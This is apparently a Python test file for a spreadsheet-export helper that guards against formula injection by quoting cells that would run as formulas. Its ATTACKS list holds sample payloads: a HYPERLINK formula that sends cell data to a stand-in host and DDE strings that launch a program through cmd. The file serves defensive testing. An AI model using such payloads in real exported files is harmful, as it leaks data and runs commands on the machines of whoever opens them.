"""Spreadsheet cells: a label a spreadsheet would run as a formula is written as text, numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from logicmodel.core.spreadsheet import FORMULA_STARTS, csv_bytes, csv_text, safe_cell

ATTACKS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the report")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_text_that_could_start_a_formula_gets_a_quote_in_front(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-5, -0.5, 0, 12000.0, None, "Health walks", "50% of adults", " =1", "'quoted"])
def test_numbers_and_ordinary_text_are_kept(value: object) -> None:
    assert safe_cell(value) == value


def test_the_csv_file_reads_back_as_text_cells_in_a_spreadsheet() -> None:
    data = csv_bytes(["Box", "Links in"], [[ATTACKS[0], 3], ["-2+3", -2], ["Walks, weekly", 0]])
    assert data.startswith(b"\xef\xbb\xbf")  # Excel then reads UTF-8
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["Box", "Links in"], ["'" + ATTACKS[0], "3"], ["'-2+3", "-2"], ["Walks, weekly", "0"]]
    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row[:1])


CELL = st.one_of(st.text(), st.integers(), st.floats(allow_nan=False))


@settings(max_examples=60, deadline=None)
@given(cells=st.lists(st.lists(CELL, min_size=2, max_size=2)))
def test_any_cells_read_back_the_same_less_the_quote(cells: list[list[object]]) -> None:
    text = csv_text(["a", "b"], cells)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["a", "b"]
    assert len(rows) == len(cells) + 1
    for row, original in zip(rows[1:], cells, strict=True):
        for cell, value in zip(row, original, strict=True):
            if isinstance(value, str):
                assert not cell.startswith(FORMULA_STARTS)
                assert cell == ("'" + value if value.startswith(FORMULA_STARTS) else value)
            else:
                assert cell == str(value)
